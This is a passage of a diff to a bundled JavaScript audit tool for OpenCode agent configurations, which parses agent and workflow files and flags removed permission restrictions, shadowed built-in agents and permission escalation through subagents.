             const items = node.items.map((item) => convert(item, walk, depth + 1));
@@ -24219,14 +24635,31 @@ function mergeInto(entries, node) {
         }
     }
 }
-/** A key as JavaScript makes a property name of it: `1.50` is `1.5`, `~` is `null`. */
+/** A key as JavaScript makes a property name of it. */
 function keyOf(key) {
-    return (0,dist/* isScalar */.jn)(key) ? String(yaml_scalarOf(key.value)) : '[object Object]';
+    if ((0,dist/* isScalar */.jn)(key))
+        return isPlain(key) ? plainKey(key.source ?? '') : String(yaml_scalarOf(key));
+    if (!(0,dist/* isSeq */.oP)(key))
+        return '[object Object]';
+    return key.items
+        .map((item) => ((0,dist/* isScalar */.jn)(item) ? keyOf(item).replace(/^null$/, '') : '[object Object]'))
+        .join(',');
 }
-function yaml_scalarOf(value) {
+function yaml_scalarOf(node) {
+    if (isPlain(node))
+        return plainScalar(node.source ?? '');
+    const { value } = node;
     if (typeof value === 'string' || typeof value === 'number' || typeof value === 'boolean')
         return value;
     return typeof value === 'bigint' ? Number(value) : null;
+}
+/** Without quotes and without a tag, so that the reader guesses what it is. */
+function isPlain(node) {
+    return node.type === 'PLAIN' && node.tag === undefined && node.source !== undefined;
+}
+/** To OpenCode's reader a tab in the indentation, and all blanks after it, are not there. */
+function withoutTabs(text) {
+    return text.includes('\t') ? text.replace(/^( *)\t[ \t]*/gm, '$1') : text;
 }
 /** The parser recurses: too many brackets or too much indentation on one way are not given to it. */
 function nestedTooDeep(text) {
@@ -24360,6 +24793,11 @@ function linkProblem(file, location) {
     if (isText && staysInside(file.path, target))
         return [];
     const place = { path: file.path, line: 0, column: 0 };
+    if (location.kind === 'workflow') {
+        return [
+            problem('unreadable', place, 'This workflow is a symbolic link, which the audit does not follow.'),
+        ];
+    }
     const what = location.kind === 'folder' ? 'This folder of OpenCode' : 'This file of OpenCode';
     return [
         problem('unreadable', place, `${what} is a symbolic link: OpenCode follows it, the audit does not.`),
@@ -24387,13 +24825,23 @@ const INSIDE = [
     { kind: 'agent', pattern: /^agents?\/(.+)\.md$/ },
     { kind: 'mode', pattern: /^modes?\/([^/]+)\.md$/ },
     { kind: 'command', pattern: /^commands?\/(.+)\.md$/ },
-    { kind: 'skill', pattern: /^skills?\/(?:.+\/)?([^/]+)\/SKILL\.md$/ },
+    { kind: 'skill', pattern: /^skills?\/(?:(?:.+\/)?([^/]+)\/)?SKILL\.md$/ },
     { kind: 'plugin', pattern: /^plugins?\/([^/]+)\.[jt]s$/ },
     { kind: 'tool', pattern: /^tools?\/([^/]+)\.[jt]s$/ },
 ];
 const CONFIG = /^opencode\.jsonc?$/;
 const INSTRUCTIONS = /^(?:AGENTS|CLAUDE|CONTEXT)\.md$/;
+const WORKFLOW = /^(?:\.github\/workflows\/|(?:.*\/)?(?=action\.ya?ml$))([^/]+\.ya?ml)$/s;
 const OTHER_SKILLS = /^(?:(.*)\/)?\.(?:claude|agents)\/skills\/(?:.+\/)?([^/]+)\/SKILL\.md$/s;
+/** A repository may itself be a configuration folder. Whether such a file is an agent, only its content says. */
+const LOOSE = [
+    { kind: 'agent', pattern: /^agents?\/(.+)\.md$/s },
+    { kind: 'mode', pattern: /^modes?\/([^/]+)\.md$/s },
+];
+/** An agent or a mode that lies outside every configuration folder of OpenCode's. */
+function isLoose(path) {
+    return LOOSE.some(({ pattern }) => pattern.test(path));
+}
 /** Whether a file decides what an agent does. Issue by issue this grows; what it accepts is what the audit reads. */
 function isAsset(path) {
     return locate(path) !== null;
@@ -24404,18 +24852,34 @@ function locate(path) {
     const base = segments.at(-1) ?? '';
     const dot = segments.lastIndexOf('.opencode');
     if (dot >= 0)
-        return locateInside(segments, dot);
+        return locateInside(segments.slice(0, dot).join('/'), segments.slice(dot + 1));
+    const global = segments.findIndex((segment, at) => segment === '.config' && segments[at + 1] === 'opencode');
+    if (global >= 0)
+        return locateGlobal(segments, global + 2);
     const folder = segments.slice(0, -1).join('/');
     if (CONFIG.test(base))
         return { kind: 'config', folder, name: base };
     if (INSTRUCTIONS.test(base))
         return { kind: 'instructions', folder, name: base };
+    const workflow = WORKFLOW.exec(path);
+    if (workflow !== null)
+        return { kind: 'workflow', folder: '', name: workflow[1] ?? '' };
+    const agent = LOOSE.find(({ pattern }) => pattern.test(path));
+    if (agent !== undefined)
+        return { kind: agent.kind, folder: '', name: agent.pattern.exec(path)?.[1] ?? '' };
     const skill = OTHER_SKILLS.exec(path);
     return skill === null ? null : { kind: 'skill', folder: skill[1] ?? '', name: skill[2] ?? '' };
 }
-function locateInside(segments, dot) {
-    const folder = segments.slice(0, dot).join('/');
-    const inside = segments.slice(dot + 1);
+/**
+ * `.config/opencode` of somebody's home, as repositories of dotfiles have it: a set-up of its own, which no project
+ * above it has a part in.
+ */
+function locateGlobal(segments, start) {
+    if (segments.length <= start)
+        return null;
+    return locateInside(segments.slice(0, start).join('/'), segments.slice(start));
+}
+function locateInside(folder, inside) {
     // Installed packages are what the lock file says they are; nobody reviews them line by line.
     if (inside.includes('node_modules'))
         return null;
@@ -24538,9 +25002,11 @@ function endOf(text, mark, from) {
 
 
 
+
+
 const MARKDOWN = new Set(['agent', 'mode', 'command', 'skill']);
 /** Null for a file that is no asset. Never throws, whatever the bytes are. */
-function parseAsset(file) {
+function parseAsset(file, semantics = PINNED) {
     const location = locate(file.path);
     if (location === null)
         return null;
@@ -24554,12 +25020,21 @@ function parseAsset(file) {
     const problems = location.kind === 'other' || location.kind === 'manifest' ? [] : read.problems;
     if (text === null)
         return { ...common, text, lines: [], root: null, problems };
-    const { root, problems: more } = parseContent(location.kind, text, file.path);
+    const { root, problems: more } = parseContent(location.kind, text, file.path, semantics);
+    if (isLoose(file.path) && !speaksOpencode(root))
+        return null;
     return { ...common, text, lines: text.split(/\r?\n/), root, problems: [...problems, ...more] };
 }
-function parseContent(kind, text, path) {
+/** Any repository may have a folder `agents`; OpenCode's say what the agent may do, or how it is used. */
+function speaksOpencode(root) {
+    const mode = stringOf(get(root ?? undefined, 'mode')) ?? '';
+    return ['primary', 'subagent', 'all'].includes(mode) || get(root ?? undefined, 'permission') !== undefined;
+}
+function parseContent(kind, text, path, semantics) {
     if (kind === 'config')
-        return parseConfig(text, path);
+        return parseConfig(text, path, semantics);
+    if (kind === 'workflow')
+        return parseWorkflow(text, path);
     if (!MARKDOWN.has(kind))
         return { root: null, problems: [] };
     const { data, problems } = parseFrontMatter(text, path);
@@ -24570,7 +25045,15 @@ function parseContent(kind, text, path) {
     if (kind === 'command') {
         return { root: data, problems: [...problems.map(withoutAgent), ...schemaProblems(data, COMMAND_SCHEMA)] };
     }
-    return { root: data, problems: [...problems, ...schemaProblems(data, AGENT_SCHEMA)] };
+    const refusals = schemaProblems(data, AGENT_SCHEMA);
+    if (kind === 'agent' || refusals.length === 0)
+        return { root: data, problems: [...problems, ...refusals] };
+    return { root: null, problems: [...problems, ...refusals.slice(0, 1).map(asSkipped)] };
+}
+/** A malformed mode is not read; OpenCode starts without it. */
+function asSkipped(one) {
+    const message = one.message.replace('OpenCode refuses to start with this', 'OpenCode leaves this mode out');
+    return { ...one, kind: 'skipped', message };
 }
 /** A command or a skill has no restrictions to lose. */
 function withoutAgent(one) {
@@ -24579,7 +25062,7 @@ function withoutAgent(one) {
         message: one.message.replace(': the agent loads without its restrictions', ': what it says has no effect'),
     };
 }
-function parseConfig(text, path) {
+function parseConfig(text, path, semantics) {
     const { root, errors } = parseJsonc(blankSubstitutions(text), path);
     const problems = errors
         .slice(0, 1)
@@ -24588,8 +25071,23 @@ function parseConfig(text, path) {
         return { root, problems };
     return {
         root,
-        problems: [...schemaProblems(root, CONFIG_SCHEMA), ...mcpServersOf(root).flatMap(serverProblems)],
+        problems: [
+            ...schemaProblems(root, configSchemaOf(semantics)),
+            ...mcpServersOf(root).flatMap(serverProblems),
+        ],
     };
+}
+/** A workflow that has nothing to do with OpenCode is left alone; one that has must be readable. */
+function parseWorkflow(text, path) {
+    if (!/opencode|uses:\s*['"]?\.\//i.test(text))
+        return { root: null, problems: [] };
+    const document = parseYaml(text, path, 1);
+    if (document.ok)
+        return { root: document.root, problems: [] };
+    if (!/opencode/i.test(text))
+        return { root: null, problems: [] };
+    const message = `This workflow names OpenCode and cannot be read: ${document.message}.`;
+    return { root: null, problems: [problem('unreadable', document.place, message)] };
 }
 function serverProblems(server) {
     return schemaProblems(server.node, MCP_SERVER_SCHEMA, ['mcp', server.key]);
@@ -24604,8 +25102,3619 @@ function mcpServersOf(config) {
     });
 }
 
+;// CONCATENATED MODULE: ./build/opencode/tool-keys.js
+
+
+/** What the permission keys of each server's tools start with (`docs_` for `docs`), for servers that are not off. */
+function serverPrefixes(config) {
+    if (config === undefined)
+        return [];
+    const names = mcpServersOf(config)
+        .filter((server) => booleanOf(get(server.node, 'enabled')) !== false)
+        .map((server) => `${toolPart(server.key)}_`);
+    return [...new Set(names)];
+}
+/** A tool of which nobody has heard; what happens to it happens to every tool that has no rule of its own. */
+function unlistedTool(prefix) {
+    return `${prefix}any-tool`;
+}
+/** How OpenCode writes the name of a server or a tool in a permission key. */
+function toolPart(name) {
+    return name.replace(/[^a-zA-Z0-9_-]/g, '_');
+}
+
+;// CONCATENATED MODULE: ./build/opencode/matrix.js
+
+
+
+
+const MATRIX_KEYS = [
+    'read',
+    'edit',
+    'glob',
+    'grep',
+    'list',
+    'bash',
+    'task',
+    'external_directory',
+    'lsp',
+    'skill',
+    'todowrite',
+    'webfetch',
+    'websearch',
+    'question',
+    'doom_loop',
+];
+/** Servers that have a column; a repository with more of them has no use for a table. */
+const MAX_SERVERS = 12;
+/**
+ * One row per agent, those of the repository first; agents that only exist below a folder are named
+ * `folder: agent`. With a base, each row says what the change makes of it, and agents that are gone come last.
+ */
+function buildMatrix(head, base = null) {
+    const now = rowsOf(head).toSorted((a, b) => rankOf(a) - rankOf(b));
+    if (base === null)
+        return now.map(({ row }) => row);
+    const old = new Map(rowsOf(base).map((drawn) => [drawn.row.agent, drawn]));
+    const rows = now.map((drawn) => compare(drawn, old.get(drawn.row.agent)));
+    for (const { row } of now)
+        old.delete(row.agent);
+    return [...rows, ...[...old.values()].map(({ row }) => ({ ...row, status: 'removed' }))];
+}
+/** Below the root, only what that folder itself defines: the rest is in the rows of the root. */
+function isShown(setUp, agent) {
+    if (setUp.folder === '')
+        return !(agent.hidden && agent.isBuiltIn && agent.definedAt === null);
+    return agent.definedAt?.path.startsWith(`${setUp.folder}/`) ?? false;
+}
+/** The name of an agent in the matrix, which tells it from one of the same name in another folder. */
+function displayName(setUp, agent) {
+    return setUp.folder === '' ? agent.name : `${setUp.folder}: ${agent.name}`;
+}
+/** One word for what an agent may do under a key. */
+function cellOf({ rules }, key) {
+    return summarise(rules.filter((rule) => !isHousekeeping(rule)), key);
+}
+/** OpenCode lets every agent into its own folders; a cell that says so would hide what matters. */
+function isOwnFolder({ origin, permission, pattern }) {
+    return origin === null && pattern !== '*' && (permission === 'external_directory' || permission === 'edit');
+}
+function rowsOf(project) {
+    return project.setUps.flatMap((setUp) => {
+        const servers = serverPrefixes(setUp.config).slice(0, MAX_SERVERS);
+        return setUp.agents.filter((agent) => isShown(setUp, agent)).map((agent) => draw(setUp, agent, servers));
+    });
+}
+function draw(setUp, agent, servers) {
+    const rules = agent.rules.filter((rule) => !isHousekeeping(rule));
+    const untouched = agent.definedAt === null && agent.rules.every((rule) => rule.origin === null);
+    const row = {
+        agent: displayName(setUp, agent),
+        origin: originOf(agent),
+        cells: Object.fromEntries([
+            ...MATRIX_KEYS.map((key) => [key, permission_summarise(rules, key)]),
+            ...servers.map((prefix) => [`${prefix}*`, cellOfServer(rules, prefix)]),
+        ]),
+        ...(untouched ? { untouched } : {}),
+    };
+    return { row, rules, isBuiltIn: agent.isBuiltIn };
+}
+/** A rule for one tool of the server makes a difference only when it says something else. */
+function cellOfServer(rules, prefix) {
+    const general = permission_summarise(rules, unlistedTool(prefix));
+    const single = rules.filter((rule) => rule.permission.startsWith(prefix)).map((rule) => rule.permission);
+    return [...new Set(single)].every((key) => permission_summarise(rules, key) === general) ? general : 'pattern';
+}
+/** The repository's own agents, then built-in ones that it changes, then the rest. */
+function rankOf({ row, isBuiltIn }) {
+    if (row.untouched === true)
+        return 2;
+    return isBuiltIn ? 1 : 0;
+}
+function compare(now, old) {
+    if (old === undefined)
+        return { ...now.row, status: 'added' };
+    const changed = Object.keys(now.row.cells).filter((key) => hasChanged(now, old, key));
+    if (changed.length === 0)
+        return { ...now.row, status: 'same' };
+    const before = changed.flatMap((key) => {
+        const cell = matrix_cellAt(old.row, key);
+        return cell === undefined ? [] : [[key, cell]];
+    });
+    return { ...now.row, status: 'changed', changed, before: Object.fromEntries(before) };
+}
+function hasChanged(now, old, key) {
+    const cell = matrix_cellAt(now.row, key);
+    if (cell !== matrix_cellAt(old.row, key))
+        return true;
+    return cell === 'pattern' && patternsOf(now.rules, key) !== patternsOf(old.rules, key);
+}
+/** The rules for a key from the last one that is for everything: what stands before it decides nothing. */
+function patternsOf(rules, key) {
+    const prefix = key.endsWith('_*') ? key.slice(0, -1) : null;
+    const asked = prefix === null ? key : unlistedTool(prefix);
+    const own = rules.filter(({ permission }) => {
+        return matches(permission, asked) || (prefix !== null && permission.startsWith(prefix));
+    });
+    const whole = own.findLastIndex(({ permission, pattern }) => matchesAll(pattern) && matches(permission, asked));
+    return JSON.stringify(own.slice(Math.max(0, whole)).map(({ permission, pattern, action }) => {
+        return prefix === null ? [pattern, action] : [permission, pattern, action];
+    }));
+}
+function matrix_cellAt({ cells }, key) {
+    return Object.hasOwn(cells, key) ? cells[key] : undefined;
+}
+function isHousekeeping(rule) {
+    return isOwnFolder(rule) && rule.permission === 'external_directory';
+}
+
+;// CONCATENATED MODULE: ./build/audit/decision.js
+
+
+
+function* agentsOf({ project }) {
+    for (const setUp of project.setUps) {
+        for (const agent of setUp.agents)
+            if (isShown(setUp, agent))
+                yield { setUp, agent };
+    }
+}
+/** A request that no team writes a rule for: what happens to it happens to everything that is not listed. */
+const PROBES = {
+    bash: 'unlisted-command --with arguments',
+    edit: 'unlisted-folder/unlisted-file.ts',
+    external_directory: '/unlisted-folder/*',
+    webfetch: 'https://unlisted.example/',
+    websearch: '*',
+    task: 'unlisted-agent',
+    doom_loop: 'unlisted-tool',
+};
+/** The rule that allows `key` for anything that is not listed, or null when it is not allowed. */
+function openingRule(agent, key) {
+    const rule = decidingRule(agent.rules, key, PROBES[key]);
+    return rule?.action === 'allow' ? rule : null;
+}
+/**
+ * Where to show what a rule decides for an agent: at the rule when the agent itself has it; else where the
+ * repository defines the agent; else at the rule of the global configuration. Null when all of it is built in.
+ */
+function spotOf(agent, rule) {
+    if (rule.origin !== null && isOwn(rule))
+        return spotOfRule(rule);
+    if (agent.definedAt !== null && !agent.isBuiltIn) {
+        const { path, line } = agent.definedAt;
+        return { path, line, identity: path.endsWith('.md') ? 'the agent' : `the agent ${agent.name}` };
+    }
+    return spotOfRule(rule);
+}
+/** Null for a built-in rule. */
+function spotOfRule(rule) {
+    if (rule.origin === null)
+        return null;
+    const { path, line } = rule.origin;
+    // In a file of its own an agent may be renamed with its file; the way inside the file stays.
+    const scope = path.endsWith('.md')
+        ? rule.way.replace(/^agent\..*?\.permission\b/s, 'permission')
+        : rule.way;
+    return { path, line, scope };
+}
+/** Shown by permission-allow-all, which then says all there is to say about the rule. */
+function isShownAsAllowAll(agent, rule) {
+    if (!isForEverything(rule))
+        return false;
+    return ['bash', 'edit', 'external_directory'].some((key) => openingRule(agent, key) === rule);
+}
+/** Whether a rule runs: one that leaves a case to another rule must not leave it to nobody. */
+function isOn({ policy }, id) {
+    return policy.rules[id] !== 'off';
+}
+/** A written rule for every key and every pattern. */
+function isForEverything(rule) {
+    return rule.origin !== null && matchesAll(rule.permission) && matchesAll(rule.pattern);
+}
+/** Written for this agent, not for all. */
+function isOwn(rule) {
+    return rule.way.startsWith('agent.');
+}
+
+;// CONCATENATED MODULE: ./build/audit/requests.js
+
+
+/** A tool that nobody names: one of an MCP server or of a plugin. */
+const OTHER_TOOL = 'unlisted-server_tool';
+/** Keys under which nothing leaves the conversation, and keys that OpenCode has no tool for. */
+const requests_HARMLESS = new Set('list todowrite todoread question plan_enter plan_exit lsp write patch apply_patch multiedit codesearch'.split(' '));
+/** A pattern longer than this is no one's; its text would make matching slow. */
+const MAX_PATTERN = 300;
+/** For each key of either side, one request that nobody lists and one for each pattern. */
+function topicsOf(before, after) {
+    return keysOf([...before, ...after]).map((key) => {
+        const about = (rules) => rules.filter((rule) => matches(rule.permission, key));
+        const [was, is] = [about(before), about(after)];
+        return { key, before: was, after: is, requests: requestsOf(key, [...was, ...is]) };
+    });
+}
+function keysOf(rules) {
+    const written = rules.map((rule) => sampleOf(rule.permission)).filter((key) => key.length <= MAX_PATTERN);
+    const keys = new Set([...Object.keys(PROBES), 'read', 'glob', 'grep', 'skill', OTHER_TOOL, ...written]);
+    return [...keys].filter((key) => !requests_HARMLESS.has(key));
+}
+function requestsOf(key, rules) {
+    const name = key === OTHER_TOOL ? 'any tool of an MCP server or plugin' : key;
+    const probes = PROBES;
+    const requests = new Map();
+    const unlisted = Object.hasOwn(probes, key) ? (probes[key] ?? '') : 'unlisted';
+    requests.set(unlisted, { key, pattern: unlisted, words: name });
+    for (const { pattern, permission, origin } of rules) {
+        if (pattern.length > MAX_PATTERN || /^\*+$/.test(pattern))
+            continue;
+        // OpenCode's own folders, and those of the skills: they come and go with what is in the repository.
+        if (origin === null && permission === 'external_directory')
+            continue;
+        const sample = sampleOf(pattern);
+        if (!requests.has(sample))
+            requests.set(sample, { key, pattern: sample, words: `${name} ${pattern}` });
+    }
+    return [...requests.values()];
+}
+/** A text that a wildcard matches, and that says what it is for. */
+function sampleOf(pattern) {
+    return pattern === '*' ? OTHER_TOOL : pattern.replaceAll('*', 'x').replaceAll('?', 'x');
+}
+
+;// CONCATENATED MODULE: ./build/audit/widenings.js
+
+
+
+
+
+/** Steps of matching for all agents together; real repositories need some thousands. */
+const MAX_WORK = 4_000_000;
+const KNOWN = new WeakMap();
+/**
+ * What the change lets agents do. An agent that is there on both sides is compared with itself; a new one with what
+ * the base lets any agent do by its written rules, since without those it could do as much under another name. What
+ * nobody wrote on either side is OpenCode's own. Every folder in which OpenCode may be started counts, since a configuration in a folder changes what the agents of the
+ * root do there.
+ */
+function widenedAgents(context) {
+    const known = KNOWN.get(context) ?? (context.base === null ? [] : compareAll(context));
+    KNOWN.set(context, known);
+    return known;
+}
+function compareAll(context) {
+    const compare = comparer();
+    return context.project.setUps.flatMap(({ folder, agents }) => {
+        const findBefore = findAgentsBefore(context, folder);
+        const forAny = rulesForAny(context, folder);
+        return agents.flatMap((agent) => {
+            const before = findBefore(agent);
+            const widenings = isInternal(agent) ? [] : compare(before?.rules ?? forAny, agent.rules);
+            const counted = widenings?.filter(({ was, is }) => was?.origin || (before !== null && is?.origin)) ?? null;
+            return counted?.length === 0 ? [] : [{ agent, before, widenings: counted }];
+        });
+    });
+}
+/** OpenCode's own agents for titles and summaries: nobody can talk to them. */
+function isInternal({ hidden, isBuiltIn }) {
+    return hidden && isBuiltIn;
+}
+/** What an agent without rules of its own would have had at the base. */
+function rulesForAny(context, folder) {
+    const agents = setUpBefore(context, folder)?.agents ?? [];
+    const rules = agents.find((agent) => agent.name === 'build')?.rules ?? agents[0]?.rules ?? [];
+    return rules.filter((rule) => rule.origin !== null && !isOwn(rule));
+}
+/** Agents with the same rules are compared once. */
+function comparer() {
+    const known = new Map();
+    let work = 0;
+    return (before, after) => {
+        const [left, right] = [before.map(widenings_textOf).join('\n'), after.map(widenings_textOf).join('\n')];
+        if (left === right)
+            return [];
+        const key = `${left}\n\n${right}`;
+        if (!known.has(key)) {
+            work += (before.length + after.length) * 20;
+            known.set(key, work > MAX_WORK ? null : find(before, after, (steps) => (work += 1 + steps / 256) > MAX_WORK));
+        }
+        return (known.get(key)?.map((found) => ({ ...found, was: before[found.was], is: after[found.is] })) ?? null);
+    };
+}
+function find(before, after, isTooMuch) {
+    const found = [];
+    for (const topic of topicsOf(before, after)) {
+        for (const request of topic.requests) {
+            const decide = (rules) => rules.findLast(({ pattern }) => isTooMuch(pattern.length * request.pattern.length) || matches(pattern, request.pattern));
+            const [was, is] = [decide(topic.before), decide(topic.after)];
+            const [from, to] = [was?.action ?? 'ask', is?.action ?? 'ask'];
+            // ACTIONS begins with the widest.
+            if (ACTIONS.indexOf(to) >= ACTIONS.indexOf(from))
+                continue;
+            found.push({ request, from, to, was: indexIn(before, was), is: indexIn(after, is) });
+        }
+    }
+    return isTooMuch(0) ? null : found;
+}
+function indexIn(rules, rule) {
+    return rule === undefined ? -1 : rules.indexOf(rule);
+}
+function widenings_textOf({ permission, pattern, action }) {
+    return `${permission}\0${pattern}\0${action}`;
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/agent-removed-guard.js
+
+
+
+
+const agentRemovedGuard = {
+    id: 'agent-removed-guard',
+    title: 'A restriction of an agent is gone',
+    summary: 'The pull request takes away, or makes ineffective, a rule that denied an agent something or asked about it.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        for (const loss of lossesOf(context))
+            yield hitFor(loss, context);
+    },
+};
+/** Each guard of the base that no longer holds, with every agent that it held back. */
+function lossesOf(context) {
+    const losses = new Map();
+    const at = (agent, guard) => {
+        const spot = spotFor(agent, guard, context);
+        const key = `${guard?.origin?.path ?? ''} ${guard?.way ?? ''} ${spot.path} ${spot.line}`;
+        const loss = losses.get(key) ?? {
+            guard,
+            ...spot,
+            agents: new Set(),
+            widenings: new Map(),
+            isTooMuch: false,
+        };
+        losses.set(key, loss);
+        loss.agents.add(agent.name);
+        return loss;
+    };
+    for (const widened of widenedAgents(context)) {
+        if (widened.widenings === null)
+            at(widened.agent, undefined).isTooMuch = true;
+        for (const widening of widened.widenings ?? []) {
+            if (widening.is !== undefined && isBrought(widening.is, widened))
+                continue;
+            at(widened.agent, widening.was).widenings.set(widening.request.words, widening);
+        }
+    }
+    return losses.values();
+}
+/** Where a reader looks for the restriction: at the agent, else in the file that had it. */
+function spotFor(agent, guard, context) {
+    const had = guard?.origin?.path ?? agent.definedAt?.path ?? '';
+    const now = pathNow(context, had);
+    const { definedAt } = agent;
+    if (definedAt !== null && (now === null || definedAt.path === now))
+        return definedAt;
+    return { path: now ?? had, line: 0 };
+}
+function hitFor({ path, line, guard, agents, widenings, isTooMuch }, context) {
+    const names = [...agents];
+    const all = [...widenings.values()];
+    const who = nameAgents(names);
+    const scope = `${names.join('\n')}\n${guard?.way ?? ''}\n${all.map(({ request, from, to }) => `${request.words} ${from} ${to}`).join('\n')}`;
+    const common = { path, line, identity: scope, remedy: agent_removed_guard_REMEDY };
+    if (isTooMuch) {
+        const message = `There are too many rules for ${who} to compare what the change lets it do with what the base did.`;
+        return { ...common, message };
+    }
+    const message = `Nothing holds ${who} back any more from ${wordsFor(all)}: ${standing(all, context)}, because ${reasonFor(guard, all)}.`;
+    return { ...common, message, ...(all.every(isMinor) ? { severity: 'medium' } : {}) };
+}
+const agent_removed_guard_REMEDY = 'Put the rule back, after the rules that are wider than it: the last one that matches decides. Or have an owner accept this finding in the policy, with a reason.';
+function reasonFor(guard, widenings) {
+    if (guard === undefined)
+        return 'what OpenCode does without a rule has changed';
+    const decides = widenings[0]?.is?.origin ?? null;
+    return decides === null ? 'the rule is gone' : 'another rule comes after it now, or it is gone';
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/agent-shadows-builtin.js
+
+
+
+const agentShadowsBuiltin = {
+    id: 'agent-shadows-builtin',
+    title: 'A file takes the place of a built-in agent',
+    summary: "An agent file changes one of OpenCode's own agents, for everybody who works here.",
+    severity: 'medium',
+    confidence: 'high',
+    category: 'governance',
+    *check({ project }) {
+        for (const asset of project.assets.values()) {
+            if (asset.kind !== 'agent' && asset.kind !== 'mode')
+                continue;
+            const { name, line } = nameOf(asset);
+            if (!BUILT_INS.some((builtIn) => builtIn.name === name))
+                continue;
+            const hidden = name === asset.name ? '' : `, although the file is called ${quoteName(asset.name)}`;
+            const message = `This file is OpenCode's own agent ${quoteName(name)}${hidden}: its prompt, model and permissions hold for everyone who starts OpenCode here without naming an agent, or lets an agent call it.`;
+            yield { path: asset.path, line, message, scope: `agent ${name}`, remedy: agent_shadows_builtin_REMEDY };
+        }
+    },
+};
+const agent_shadows_builtin_REMEDY = 'Give the agent a name of its own, and let people choose it with "default_agent" or --agent.';
+/** The key `name` in the front matter wins over the name of the file. */
+function nameOf(asset) {
+    const entries = entriesOf(asset.root ?? undefined);
+    const named = entries.find((entry) => entry.key === 'name');
+    const value = named?.node.kind === 'scalar' ? named.node.value : null;
+    if (named === undefined || value === null)
+        return { name: asset.name, line: 0 };
+    return { name: String(value), line: named.place.line };
+}
+
+;// CONCATENATED MODULE: ./build/audit/task-reach.js
+
+
+
+/** How many starts a way has at most, whatever `subagent_depth` says. */
+const task_reach_MAX_DEPTH = 8;
+/** The widest subagents are tried first; a set-up with more than these has shown what is wrong by then. */
+const MAX_TRIED = 100;
+/**
+ * The subagents that open something and that an agent can have started, itself or through others, the nearest and
+ * widest first. Nothing of what the agent may not do is passed on to them. OpenCode stops at `subagent_depth` (1
+ * unless the configuration says more), and lets a subagent go on only where its own rules speak of `task`.
+ */
+function* taskReach(setUp, from) {
+    const reached = new Set([from.name]);
+    let front = [{ agent: from, by: [] }];
+    for (let depth = depthOf(setUp); depth > 0 && front.length > 0; depth -= 1) {
+        const next = [];
+        for (const one of startedByAny(setUp, front)) {
+            if (reached.has(one.agent.name))
+                continue;
+            reached.add(one.agent.name);
+            next.push(one);
+            yield one;
+        }
+        front = next;
+    }
+}
+function* startedByAny(setUp, front) {
+    for (const at of front)
+        yield* startedBy(setUp, at);
+}
+function* startedBy(setUp, { agent, by }) {
+    const isStarted = by.length > 0 || agent.mode === 'subagent';
+    if (isStarted && !speaksOfTask(agent))
+        return;
+    if (isHidden(agent.rules, 'task'))
+        return;
+    const { widest, byName } = subagentsOf(setUp);
+    const named = agent.rules.flatMap((rule) => rule.permission === 'task' && rule.action === 'allow' ? (byName.get(rule.pattern) ?? []) : []);
+    for (const one of new Set([...named, ...widest])) {
+        if (evaluate(agent.rules, 'task', one.name) !== 'allow')
+            continue;
+        yield { agent: one, by: by.length === 0 ? [agent.name] : [...by, agent.name] };
+    }
+}
+const MEMO = new WeakMap();
+function subagentsOf(setUp) {
+    const known = MEMO.get(setUp);
+    if (known !== undefined)
+        return known;
+    const subagents = setUp.agents.filter((agent) => agent.mode !== 'primary');
+    // One that opens nothing, and leads nowhere, takes nobody further.
+    const ranked = subagents
+        .map((agent) => ({ agent, width: widthOf(agent) }))
+        .filter(({ agent, width }) => width > 0 || speaksOfTask(agent))
+        .toSorted((a, b) => b.width - a.width);
+    const found = {
+        widest: ranked.slice(0, MAX_TRIED).map(({ agent }) => agent),
+        byName: new Map(ranked.map(({ agent }) => [agent.name, agent])),
+    };
+    MEMO.set(setUp, found);
+    return found;
+}
+function speaksOfTask(agent) {
+    return agent.rules.some((rule) => isOwn(rule) && rule.permission === 'task');
+}
+function widthOf(agent) {
+    return ['bash', 'edit', 'external_directory'].filter((key) => openingRule(agent, key) !== null)
+        .length;
+}
+function depthOf({ config }) {
+    const node = get(config, 'subagent_depth');
+    const depth = node?.kind === 'scalar' && typeof node.value === 'number' ? node.value : 1;
+    return Math.min(Math.max(depth, 0), task_reach_MAX_DEPTH);
+}
+
+;// CONCATENATED MODULE: ./build/audit/escalation.js
+
+
+
+const GAINS = {
+    bash: 'run commands',
+    edit: 'edit files',
+    external_directory: 'leave the repository',
+};
+/** The widest step up; null for a subagent, which is started by others and starts none itself. */
+function escalation({ setUp, agent }) {
+    if (agent.mode === 'subagent' || openingRule(agent, 'bash') !== null)
+        return null;
+    const denied = ['bash', 'edit', 'external_directory'].filter((key) => isDenied(agent, key));
+    if (denied.length === 0)
+        return null;
+    let widest = null;
+    for (const reached of taskReach(setUp, agent)) {
+        const gains = denied.filter((key) => openingRule(reached.agent, key) !== null).map((key) => GAINS[key]);
+        if (gains.length > (widest?.gains.length ?? 0))
+            widest = { reached, gains };
+        if (gains.length === denied.length)
+            break;
+    }
+    return widest;
+}
+function isDenied(agent, key) {
+    const rule = decidingRule(agent.rules, key, PROBES[key]);
+    return rule?.action === 'deny' && rule.origin !== null;
+}
+
+;// CONCATENATED MODULE: ./build/audit/reviewer.js
+const REVIEWER_NAME = /(?:^|[^a-z])(?:review(?:er|s|ing)?|audit(?:or|s|ing)?|critic|inspector)(?:[^a-z]|$)/i;
+const REVIEWS = /^(?:\W*[\w-]+\W+){0,4}?(?:review(?:er|s|ing)?|audit(?:or|s|ing)?|inspects?|critiques?)\b/i;
+const CHANGES = /\b(?:fix(?:es|er|ing)?|implement(?:s|er|ing)?|refactor(?:s|ing)?|appl(?:y|ies)|rewrites?)\b/i;
+/** By name; or by the first words of its description, unless it is an agent that people work with all day. */
+function isReviewer(agent) {
+    const description = agent.description.slice(0, 300);
+    if (CHANGES.test(agent.name.replaceAll(/[_/]/g, ' ')) || CHANGES.test(description))
+        return false;
+    return REVIEWER_NAME.test(agent.name) || (agent.mode !== 'primary' && REVIEWS.test(description));
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/agent-widens-global.js
+
+
+
+
+
+
+
+const agentWidensGlobal = {
+    id: 'agent-widens-global',
+    title: 'An agent has more than the rules for all agents give',
+    summary: 'An agent allows itself without asking what the permission for all agents denies or asks for.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        for (const { setUp, agent } of agentsOf(context)) {
+            const escalates = isOn(context, 'task-escalates') &&
+                !context.project.semantics.inheritsDenials &&
+                escalation({ setUp, agent }) !== null;
